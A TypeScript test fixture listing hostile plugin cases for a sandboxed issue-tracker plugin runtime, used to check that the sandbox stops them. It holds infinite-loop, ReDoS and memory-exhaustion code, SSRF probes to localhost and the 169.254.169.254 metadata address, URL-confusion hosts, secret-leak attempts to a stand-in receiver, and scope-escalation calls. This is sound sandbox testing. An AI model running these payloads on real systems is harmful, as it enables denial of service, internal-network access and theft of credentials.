// Attacks 20 to 41: exceed the resources, servers and rights of a run. scenes.ts has those that need another caller or plugin.
import type { Hostile } from './case.ts';

/** Attacks 20 to 28: exhaust a resource. Tests alone end processes, for 27 and 28. */
export const exhaustions: readonly Hostile[] = [
  // It lasts as long as a run may, so the others run at the same time.
  { group: 21, name: 'never-settles', ends: 'stopped', code: 'wall', body: `await new Promise(() => {});` },
  { group: 20, name: 'loop', ends: 'stopped', code: 'cpu', body: `for (;;);` },
  {
    group: 20,
    name: 'loop-after-await',
    ends: 'stopped',
    code: 'cpu',
    body: `await ctx.issues.get(event.data.id); for (;;);`,
  },
  {
    group: 20,
    name: 'loop-in-getter',
    ends: 'stopped',
    body: `await ctx.issues.update(event.data.id, { get priority() { for (;;); } });`,
  },
  { group: 20, name: 'loop-at-start', ends: 'stopped', prelude: `for (;;);`, body: `` },
  {
    group: 22,
    name: 'microtasks',
    ends: 'stopped',
    body: `const again = () => Promise.resolve().then(again); await again();`,
  },
  { group: 23, name: 'regex', ends: 'stopped', code: 'cpu', body: `/^(a+)+$/.test('a'.repeat(40) + '!');` },
  { group: 24, name: 'heap', ends: 'stopped', body: `const all = []; for (;;) all.push({ a: [1, 2, 3] });` },
  {
    group: 24,
    name: 'typed-arrays',
    ends: 'stopped',
    body: `const all = []; for (;;) all.push(new Uint8Array(1e6).fill(1));`,
  },
  {
    group: 24,
    name: 'ropes',
    ends: 'stopped',
    body: `let text = 'x'; for (;;) { text += text; if (text.length > 1e8) text = text.slice(1).split('').join('-'); }`,
  },
  { group: 24, name: 'spread', ends: 'stopped', body: `let all = [1]; for (;;) all = [...all, ...all];` },
  {
    group: 25,
    name: 'a-million-calls',
    ends: 'stopped',
    body: `const all = []; for (let i = 0; i < 1e6; i++) all.push(ctx.issues.get(event.data.id)); await Promise.all(all);`,
  },
  {
    group: 25,
    name: 'calls-without-end',
    ends: 'stopped',
    code: 'call_budget',
    body: `for (;;) await ctx.kv.get('x');`,
  },
  {
    group: 26,
    name: 'log-flood',
    ends: 'either',
    body: `for (let i = 0; i < 2000; i++) ctx.log.info('\\u001b[2J\\u001b]0;owned\\u0007 ' + 'x'.repeat(200));`,
  },
];

const at = 'https://receiver.example';
const net = [{ origin: at, methods: ['POST' as const], path: '/v1/', why: 'an attack of the suite' }];

/** Sends requests, and finds those that are not refused before they are sent. */
const ask = `const ask = async (...asked) => {
  try { await fetch(...asked); found.push('answered ' + String(asked[0]).slice(0, 60)); }
  catch (error) { if (error.code !== 'egress_denied') found.push(error.code + ' ' + String(asked[0]).slice(0, 60)); }
};`;
const post = `{ method: 'POST', body: 'x' }`;

/**
 * Attacks 29 to 35: reach other servers, this one, and secrets. None needs a receiver: a request is refused before it is sent, and any
 * other result, also that no server answers, means that it was let through.
 */
export const requests: readonly Hostile[] = [
  {
    group: 29,
    name: 'names-beside-the-named',
    ends: 'harmless',
    manifest: { net },
    body: `${ask}
      for (const url of ['https://receiver.example.evil.example/v1/', 'https://user@receiver.example/v1/', 'https://receiver.example@evil.example/v1/',
        'https://receiver.example:444/v1/', 'http://receiver.example/v1/', 'https://receiver.example/v2/', 'https://receiver.example/v1/../v2/'])
        await ask(url, ${post});
      await ask('${at}/v1/');`,
  },
  {
    group: 32,
    name: 'headers-that-route',
    ends: 'harmless',
    manifest: { net },
    body: `${ask}
      for (const header of ['host', 'Transfer-Encoding', 'content-length', 'Connection', 'proxy-authorization'])
        await ask('${at}/v1/', { ...${post}, headers: { [header]: 'receiver.example' } });`,
  },
  {
    group: 34,
    name: 'fetch-without-net',
    ends: 'harmless',
    body: `${ask}
      for (const url of ['http://127.0.0.1/', 'http://[::1]/', 'http://169.254.169.254/latest/meta-data/', 'http://localhost:8080/api/v1/me',
        'http://2130706433/', 'https://receiver.example/'])
        await ask(url);`,
  },
  {
    group: 35,
    name: 'secrets-elsewhere',
    ends: 'harmless',
    manifest: { net, secrets: { ATTACK_KEY: { hosts: [at], header: 'Authorization', format: 'Bearer {}' } } },
    body: `${ask}
      const ref = ctx.secrets.ref('ATTACK_KEY');
      await ask('${at}/v1/' + ref, ${post});
      await ask('${at}/v1/?key=' + ref, ${post});
      await ask('${at}/v1/', { method: 'POST', body: 'key=' + ref });
      await ask('${at}/v1/', { ...${post}, headers: { 'x-key': ref } });
      await ask('${at}/v1/', { ...${post}, headers: { authorization: 'Basic ' + ref } });
      try { if (ctx.secrets.ref('OTHER_KEY')) found.push('a secret that was not declared'); } catch {}`,
  },
];

const readsIssues = { 'issues:read': { why: 'an attack of the suite' } };

/** Attacks 36 to 41: act without a grant. */
export const authority: readonly Hostile[] = [
  {
    group: 36,
    name: 'strangers-objects',
    ends: 'harmless',
    body: `const asked = {
        get: ctx.issues.get(stranger), update: ctx.issues.update(stranger, { priority: 'urgent' }),
        comment: ctx.comments.create(stranger, { body: 'x' }), comments: ctx.comments.list(stranger),
        parent: ctx.issues.update(event.data.id, { parentId: stranger }), move: ctx.issues.move(stranger, { team: 'ENG' }),
      };
      for (const name in asked) await asked[name].then(() => found.push(name), () => {});
      await ctx.issues.list({ cursor: stranger }).then(() => found.push('cursor'), () => {});
      const keys = await ctx.kv.list({ prefix: '' });
      if (keys.data.length > 0) found.push('keys of another');`,
  },
  {
    group: 37,
    name: 'scopes-not-held',
    ends: 'harmless',
    scopes: readsIssues,
    body: `await ctx.issues.update(event.data.id, { priority: 'urgent' }).then(() => found.push('update'), () => {});
      for (const name of ['comments', 'projects', 'labels', 'attachments'])
        await ctx[name].list(event.data.id).then(() => found.push(name), () => {});
      if (ctx.has('issues:write')) found.push('has');`,
  },
  {
    group: 37,
    name: 'fields-not-held',
    ends: 'harmless',
    scopes: { 'issues:write': { why: 'an attack of the suite', fields: ['estimate'] } },
    body: `for (const patch of [{ title: 'taken' }, { priority: 'urgent' }, { estimate: 1, title: 'taken' }])
        await ctx.issues.update(event.data.id, patch).then(() => found.push(Object.keys(patch).join()), () => {});
      await ctx.issues.create({ team: 'ENG', title: 'made' }).then(() => found.push('create'), () => {});`,
  },
  {
    group: 37,
    name: 'approves-itself',
    ends: 'harmless',
    body: `for (const name of ['proposals', 'approvals', 'plugins', 'apiKeys', 'members', 'workspaces', 'runs', 'undos', 'backtests'])
        if (ctx[name]) found.push(name);
      for (const scope of ['approvals:write', 'proposals:write', 'plugins:write']) if (ctx.has(scope)) found.push(scope);`,
  },
  {
    group: 40,
    name: 'back-and-forth',
    ends: 'stopped',
    isLoop: true,
    body: `await ctx.issues.update(event.data.id, { estimate: event.data.estimate === 1 ? 2 : 1 });`,
  },
  {
    group: 40,
    name: 'own-events',
    ends: 'stopped',
    isLoop: true,
    code: 'loop_path',
    body: `await ctx.issues.update(event.data.id, { estimate: ((event.data.estimate ?? 0) + 1) % 100 });`,
  },
  {
    group: 41,
    name: 'odd-values',
    ends: 'harmless',
    body: `for (const key of ['', '../other', 'a/b', '\\ud800', 'x'.repeat(300), '__proto__/x', 7, null])
        await ctx.kv.set(key, 1).then(() => found.push('key ' + String(key).slice(0, 10)), () => {});
      await ctx.kv.set('list', [1]);
      await ctx.kv.increment('list').then(() => found.push('increment'), () => {});
      await ctx.kv.increment('count', '1').then(() => found.push('by a text'), () => {});
      await ctx.kv.delete('list');`,
  },
  {
    group: 41,
    name: 'more-than-the-quota',
    ends: 'either',
    body: `const long = 'x'.repeat(200_000);
      let kept = 0;
      for (let i = 0; i < 90; i++) await ctx.kv.set('long-' + i, long).then(() => kept++, () => {});
      if (kept * 200_000 > 16 * 1024 * 1024) found.push(kept + ' values');`,
  },
];
